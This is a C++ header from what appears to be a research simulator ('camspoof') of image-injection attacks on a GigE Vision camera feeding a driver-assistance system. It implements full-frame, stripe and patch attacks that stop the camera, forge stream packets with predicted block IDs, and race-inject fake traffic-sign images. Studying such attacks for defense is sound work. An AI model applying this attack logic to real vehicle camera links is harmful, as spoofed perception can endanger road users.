#pragma once

#include <cmath>
#include <cstdint>
#include <optional>
#include <string>
#include <variant>
#include <vector>

#include "camspoof/error.hpp"
#include "camspoof/gvsp.hpp"
#include "camspoof/pixel.hpp"
#include "camspoof/scene.hpp"

namespace camspoof {

enum class Link : std::uint8_t { CameraToAdas = 1, DefenseToCamera = 2, AttackerToAdas = 3, AttackerToCamera = 4 };

inline std::string to_string(Link l) {
  switch (l) {
    case Link::CameraToAdas: return "camera_to_adas";
    case Link::DefenseToCamera: return "defense_to_camera";
    case Link::AttackerToAdas: return "attacker_to_adas";
    case Link::AttackerToCamera: return "attacker_to_camera";
  }
  return "unknown";
}

enum class AttackKind { FullFrame, Stripe, Patch };
enum class MetadataPolicy { Static, SniffAdaptive };

inline std::string to_string(AttackKind k) {
  return k == AttackKind::FullFrame ? "full_frame" : k == AttackKind::Stripe ? "stripe" : "patch";
}
inline std::string to_string(MetadataPolicy p) { return p == MetadataPolicy::Static ? "static" : "sniff_adaptive"; }

struct AttackPlan {
  AttackKind kind = AttackKind::FullFrame;
  std::uint64_t start_frame = 0;      // camera frame slot at which the attack begins
  std::uint64_t duration_frames = 0;  // fabricated frames (full frame) or attacked frames (stripe/patch)
  std::variant<PixelBuffer, SignTemplate> payload = PixelBuffer(2, 2, std::uint8_t{0});
  std::uint32_t injected_width = 0;   // width the attacker believes correct
  std::uint32_t stripe_rows = 0;
  std::uint32_t patch_row = 0;
  std::uint32_t patch_col = 0;
  MetadataPolicy metadata_policy = MetadataPolicy::Static;
  // Full frame only: fabricated frames per camera period. The open question of
  // how fast the real tool transmitted is left to this knob.
  double rate_multiplier = 1.0;
  std::uint64_t static_first_block_id = 1;
  // SniffAdaptive: continue the camera's timestamps instead of counting from 0.
  bool sniff_timestamps = false;
  // Free-form provenance of the payload for configuration echoes.
  std::string payload_source;

  void validate() const {
    if (injected_width % 2 != 0) throw ConfigError("attack: injected_width must be even");
    if (stripe_rows % 2 != 0) throw ConfigError("attack: stripe_rows must be even");
    if (!(rate_multiplier > 0.0)) throw ConfigError("attack: rate_multiplier must be positive");
    if (kind == AttackKind::FullFrame) {
      if (const auto* buf = std::get_if<PixelBuffer>(&payload); buf && buf->width() != injected_width)
        throw ConfigError("attack: full-frame payload width differs from injected_width");
    }
    if (kind != AttackKind::FullFrame && stripe_rows == 0) throw ConfigError("attack: stripe_rows must be positive");
    if (kind == AttackKind::Patch) {
      const auto* tpl = std::get_if<SignTemplate>(&payload);
      if (!tpl) throw ConfigError("attack: patch payload must be a sign template");
      if (patch_row % 2 != 0 || patch_col % 2 != 0) throw ConfigError("attack: patch position must be even");
      if (patch_row + tpl->height() > stripe_rows) throw ConfigError("attack: patch does not fit within the stripe");
    }
  }
};

// What the attacker has sniffed: the most recent complete camera frame.
// Never holds the in-flight frame or any control-channel traffic.
struct AttackerView {
  std::optional<LeaderPacket> last_seen_leader;
  std::optional<PixelBuffer> last_frame;
  std::uint64_t last_leader_arrival_ns = 0;
};

struct StreamTiming {
  std::uint64_t period_ns = 50'000'000;
  std::uint64_t packet_spacing_ns = 72'000;
  std::uint32_t max_payload = kMaxPayload;
};

struct ScheduledPacket {
  std::uint64_t time_ns = 0;
  Link link = Link::AttackerToAdas;
  StreamPacket packet;
};

struct AttackOutput {
  std::vector<ScheduledPacket> packets;
  std::vector<std::string> log;
};

namespace detail {

inline PixelBuffer payload_image(const AttackPlan& plan, std::uint32_t height) {
  if (const auto* buf = std::get_if<PixelBuffer>(&plan.payload)) return *buf;
  const auto& tpl = std::get<SignTemplate>(plan.payload);
  if (tpl.width() > plan.injected_width || tpl.height() > height)
    throw ConfigError("attack: sign template does not fit the fabricated image");
  const Backdrop backdrop = plan.kind == AttackKind::FullFrame ? Backdrop::Plain : Backdrop::Scene;
  const std::uint32_t row = plan.kind == AttackKind::FullFrame ? ((height - tpl.height()) / 2) & ~1u : 0;
  const std::uint32_t col = ((plan.injected_width - tpl.width()) / 2) & ~1u;
  return compose_injection(plan.injected_width, height, tpl, row, col, backdrop);
}

// Payload packets 1..k carrying the first k * max_payload bytes of `bytes`.
inline void forge_leading_packets(AttackOutput& out, const Bytes& bytes, std::size_t k, std::uint64_t block_id,
                                  std::uint64_t leader_time, const StreamTiming& timing) {
  for (std::size_t j = 1; j <= k; ++j) {
    const std::size_t begin = (j - 1) * timing.max_payload;
    if (begin >= bytes.size()) break;
    const std::size_t end = std::min(bytes.size(), begin + timing.max_payload);
    // One nanosecond ahead of the camera's packet j.
    out.packets.push_back({leader_time + j * timing.packet_spacing_ns - 1, Link::AttackerToAdas,
                           PayloadPacket{block_id, static_cast<std::uint32_t>(j),
                                         Bytes(bytes.begin() + static_cast<std::ptrdiff_t>(begin),
                                               bytes.begin() + static_cast<std::ptrdiff_t>(end))}});
  }
}

}  // namespace detail

// Halts the camera over GVCP, streams `duration_frames` fabricated frames
// starting at `attack_start_ns`, then restarts the camera.
inline AttackOutput full_frame_attack(const AttackPlan& plan, const AttackerView& view, std::uint64_t attack_start_ns,
                                      const StreamTiming& timing) {
  if (plan.kind != AttackKind::FullFrame) throw ConfigError("full_frame_attack requires a FullFrame plan");
  plan.validate();
  AttackOutput out;
  const std::uint64_t stop_time = attack_start_ns - timing.period_ns / 4;
  out.packets.push_back({stop_time, Link::AttackerToCamera, acquisition_command(false)});

  std::uint32_t height = 0;
  if (const auto* buf = std::get_if<PixelBuffer>(&plan.payload)) height = buf->height();
  else if (view.last_seen_leader) height = view.last_seen_leader->height;
  else throw ConfigError("full_frame_attack: frame height unknown (no payload image and nothing sniffed)");

  const PixelBuffer fake = plan.duration_frames > 0 ? detail::payload_image(plan, height) : PixelBuffer(2, 2, std::uint8_t{0});
  const double step = static_cast<double>(timing.period_ns) / plan.rate_multiplier;
  const bool sniff = plan.metadata_policy == MetadataPolicy::SniffAdaptive && view.last_seen_leader.has_value();
  std::uint64_t last_time = stop_time;
  for (std::uint64_t i = 0; i < plan.duration_frames; ++i) {
    const std::uint64_t t = attack_start_ns + static_cast<std::uint64_t>(std::llround(static_cast<double>(i) * step));
    std::uint64_t block_id = plan.static_first_block_id + i;
    std::uint64_t ts = i * timing.period_ns;
    if (sniff) {
      block_id = view.last_seen_leader->block_id + 1 + i;
      if (plan.sniff_timestamps) ts = view.last_seen_leader->timestamp_ns + (i + 1) * timing.period_ns;
    }
    const auto packets = fragment_frame(fake, block_id, ts, timing.max_payload);
    for (std::size_t j = 0; j < packets.size(); ++j)
      out.packets.push_back({t + j * timing.packet_spacing_ns, Link::AttackerToAdas, packets[j]});
    last_time = t + (packets.size() - 1) * timing.packet_spacing_ns;
  }
  const std::uint64_t resume_time =
      plan.duration_frames == 0 ? stop_time + 1 : last_time + static_cast<std::uint64_t>(step / 2.0);
  out.packets.push_back({resume_time, Link::AttackerToCamera, acquisition_command(true)});
  return out;
}

// Race-injects the top rows of the payload image into the next frame: forged
// payload packets 1..k with the predicted block ID, each scheduled just ahead
// of the camera's packet with the same ID. The camera's leader is untouched.
inline AttackOutput stripe_attack(const AttackPlan& plan, const AttackerView& view, const StreamTiming& timing,
                                  std::optional<std::uint64_t> target_block_id = std::nullopt) {
  if (plan.kind != AttackKind::Stripe) throw ConfigError("stripe_attack requires a Stripe plan");
  plan.validate();
  AttackOutput out;
  if (!view.last_seen_leader) {
    out.log.push_back("stripe: no frame sniffed yet, skipping");
    return out;
  }
  if (plan.stripe_rows > view.last_seen_leader->height) throw ConfigError("attack: stripe taller than frame");
  const std::uint64_t block_id = target_block_id.value_or(view.last_seen_leader->block_id + 1);
  const std::uint64_t leader_time =
      view.last_leader_arrival_ns + (block_id - view.last_seen_leader->block_id) * timing.period_ns;
  const std::size_t k = payload_packet_count(std::size_t{plan.stripe_rows} * plan.injected_width, timing.max_payload);
  const PixelBuffer img = detail::payload_image(plan, std::max<std::uint32_t>(
      plan.stripe_rows, static_cast<std::uint32_t>((k * timing.max_payload + plan.injected_width - 1) /
                                                   plan.injected_width + 1) & ~1u));
  detail::forge_leading_packets(out, img.bytes(), k, block_id, leader_time, timing);
  return out;
}

// Stripe injection whose content is the previous legitimate frame (at that
// frame's own width) with the sign patch embedded.
inline AttackOutput patch_attack(const AttackPlan& plan, const AttackerView& view, const StreamTiming& timing,
                                 std::optional<std::uint64_t> target_block_id = std::nullopt) {
  if (plan.kind != AttackKind::Patch) throw ConfigError("patch_attack requires a Patch plan");
  plan.validate();
  AttackOutput out;
  if (!view.last_frame || !view.last_seen_leader) {
    out.log.push_back("patch: no previous frame available, skipping injection");
    return out;
  }
  PixelBuffer background = *view.last_frame;
  if (plan.stripe_rows > background.height()) throw ConfigError("attack: stripe taller than frame");
  const auto& tpl = std::get<SignTemplate>(plan.payload);
  if (plan.patch_col + tpl.width() > background.width()) {
    out.log.push_back("patch: patch does not fit the previous frame width, skipping injection");
    return out;
  }
  mosaic_into(background, tpl.image, plan.patch_row, plan.patch_col);
  const std::uint64_t block_id = target_block_id.value_or(view.last_seen_leader->block_id + 1);
  const std::uint64_t leader_time =
      view.last_leader_arrival_ns + (block_id - view.last_seen_leader->block_id) * timing.period_ns;
  const std::size_t k = payload_packet_count(std::size_t{plan.stripe_rows} * background.width(), timing.max_payload);
  detail::forge_leading_packets(out, background.bytes(), k, block_id, leader_time, timing);
  return out;
}

}  // namespace camspoof
